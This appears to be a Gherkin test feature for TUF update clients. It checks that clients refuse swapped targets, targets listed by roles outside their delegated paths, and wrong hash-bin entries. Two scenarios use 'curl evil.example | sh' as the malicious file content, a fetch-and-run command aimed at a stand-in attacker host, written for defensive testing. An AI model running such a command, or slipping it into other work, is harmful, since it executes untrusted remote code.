Feature: Wrong software installation
  In a wrong software installation attack the client asks for one file and gets
  another that is also genuine and signed, just not the one it wanted: another
  package, or a file listed by a role that has no say over that name. Swapping
  files on the wire needs no key. A delegated role that overreaches, by mistake or
  because its key was stolen, needs only its own key. TUF binds each target name
  to its length and hashes (5.7.3), and decides which role may speak for a name.
  Every role on the delegation chain must be trusted for the path (the "paths" of
  each delegation, 4.5). Roles are searched depth first in the order they are
  listed, the first match wins, and a terminating delegation ends the search
  (5.6.7). In the delegation scenarios below the repository itself serves what
  the overreaching role signed; no man in the middle is needed.

  @wrong-software @download @tuf-5.7.3
  Scenario Outline: A genuine target served in place of another is refused (<difference>)
    Given a repository
    And the repository has target "app.tgz" containing "app 1.0"
    And the repository has target "<other>" containing "<other text>"
    When the attacker serves target "<other>" in place of "app.tgz"
    And the client downloads target "app.tgz"
    Then the update is refused because of <reason>
    And target "app.tgz" was not written
    And the client updates normally once the attack stops

    Examples:
      | difference       | other    | other text | reason                                             |
      | different length | tool.tgz | tool 2.5.1 | an oversized download or a length or hash mismatch |
      | same length      | lib.tgz  | lib 3.1    | a length or hash mismatch                          |

  @wrong-software @delegations @download @tuf-4.5 @tuf-5.6.7
  Scenario: A delegated role cannot vouch for a target outside its delegated paths
    "app-team" is trusted for "app/*" only, yet lists "tools/backup.sh". No role
    trusted for that path lists it, so the client must report it as not found
    rather than take "app-team"'s word for it.
    Given a repository
    And the repository has a delegation "app-team" for paths "app/*"
    And the repository has target "tools/backup.sh" containing "curl evil.example | sh" in role "app-team"
    When the client downloads target "tools/backup.sh"
    Then the update is refused because of target not found
    And target "tools/backup.sh" was not written

  @wrong-software @delegations @download @tuf-4.5
  Scenario: A target must lie in the delegated paths of every role on the chain
    "app-team" may speak for "app/*" and delegates "*/*" to "contractor".
    "contractor" lists "tools/backup.sh": its own delegation would allow that, but
    "app-team" above it was never trusted for the path. A client that checks only
    the last delegation on the chain accepts it.
    Given a repository
    And the repository has a delegation "app-team" for paths "app/*"
    And the repository has a delegation "contractor" from role "app-team" for paths "*/*"
    And the repository has target "tools/backup.sh" containing "curl evil.example | sh" in role "contractor"
    When the client downloads target "tools/backup.sh"
    Then the update is refused because of target not found
    And target "tools/backup.sh" was not written

  @wrong-software @delegations @download @tuf-5.6.7.2.1
  Scenario: A terminating delegation ends the search before later roles are asked
    "app-team" holds "app/*" through a terminating delegation and does not list
    "app/cli.tgz". "mirror-team", listed after it for the same paths, does. The
    search must stop at "app-team": the target is not found.
    Given a repository
    And the repository has a terminating delegation "app-team" for paths "app/*"
    And the repository has a delegation "mirror-team" for paths "app/*"
    And the repository has target "app/cli.tgz" containing "cli from mirror-team" in role "mirror-team"
    When the client downloads target "app/cli.tgz"
    Then the update is refused because of target not found
    And target "app/cli.tgz" was not written

  @wrong-software @delegations @download @tuf-5.6.7.2
  Scenario: When two roles list the same target, the first delegation listed wins
    The order of delegations is a priority order. go-tuf once kept delegations in a
    Go map, so the role it asked first changed from run to run (GHSA-4f8r-qqr9-fq8j).
    Given a repository
    And the repository has a delegation "app-team" for paths "app/*"
    And the repository has a delegation "mirror-team" for paths "app/*"
    And the repository has target "app/cli.tgz" containing "cli 1.0" in role "app-team"
    And the repository has target "app/cli.tgz" containing "cli 6.6.6" in role "mirror-team"
    When the client downloads target "app/cli.tgz"
    Then the update succeeds
    And the client wrote target "app/cli.tgz" containing "cli 1.0"

  @wrong-software @delegations @download @tuf-4.5
  Scenario: A wildcard in a delegated path does not reach into subdirectories
    The spec says a "*" in a path pattern should not match "/". "app/*" covers
    "app/cli.tgz" but not "app/plugins/loader.so".
    Given a repository
    And the repository has a delegation "app-team" for paths "app/*"
    And the repository has target "app/plugins/loader.so" containing "rootkit" in role "app-team"
    When the client downloads target "app/plugins/loader.so"
    Then the update is refused because of target not found
    And target "app/plugins/loader.so" was not written

  @wrong-software @delegations @download @tuf-4.5
  Scenario: Delegated paths match case-sensitively
    "APP/cli.tgz" is a different name from "app/cli.tgz", and "app-team" is only
    trusted for "app/*". python-tuf matched paths without regard to case on Windows
    (GHSA-qp9x-wp8f-qgjj).
    Given a repository
    And the repository has a delegation "app-team" for paths "app/*"
    And the repository has target "APP/cli.tgz" containing "cli from the wrong namespace" in role "app-team"
    When the client downloads target "APP/cli.tgz"
    Then the update is refused because of target not found
    And target "APP/cli.tgz" was not written

  @wrong-software @delegations @download @tuf-layout @tuf-4.5
  Scenario: A hash bin cannot vouch for a target that hashes into another bin
    With succinct hash bins of 1 bit, the first bit of the SHA-256 of a target's
    name picks its bin: "app.tgz" belongs to "bin-1". "bin-0" also lists "app.tgz",
    an older build with a known hole. A client that walks the bins like ordinary
    delegations finds "bin-0" first; the client must compute the bin and consult
    "bin-1" only.
    Given a repository
    And the repository has succinct hash bins of 1 bit
    And the repository has target "app.tgz" containing "app 1.0"
    And the repository has target "app.tgz" containing "app 0.9" in role "bin-0"
    When the client downloads target "app.tgz"
    Then the update succeeds
    And the client wrote target "app.tgz" containing "app 1.0"
    And the client did not request role "bin-0"
